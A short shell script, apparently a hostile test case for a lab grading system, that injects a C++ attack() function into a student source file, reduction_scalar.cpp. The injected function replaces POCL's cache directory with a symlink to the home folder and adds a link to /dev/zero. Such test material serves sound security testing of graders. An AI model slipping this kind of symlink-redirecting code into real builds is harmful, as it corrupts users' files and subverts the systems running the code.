#!/bin/sh
# Replaces POCL's cache with a link to the home folder, so that the next run writes there.
# from: starters
# lab: lab1
# expect: lab1 0

{
    cat << 'CPP'
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <string>
static void attack() {
    namespace fs = std::filesystem;
    std::error_code error;
    const char* named = std::getenv("POCL_CACHE_DIR");
    const std::string cache = named == nullptr ? "build/pocl-cache" : named;
    fs::rename(cache, cache + ".old", error);
    const char* home = std::getenv("HOME");
    fs::create_directory_symlink(home == nullptr ? "/root" : home, cache, error);
    fs::create_symlink("/dev/zero", cache + "/tempfile", error);
}

CPP
    sed 's/^\(std::size_t\|Reduction\) .*) {$/&\n    attack();/' labs/lab1/reduction_scalar.cpp
} > hostile.tmp
mv hostile.tmp labs/lab1/reduction_scalar.cpp
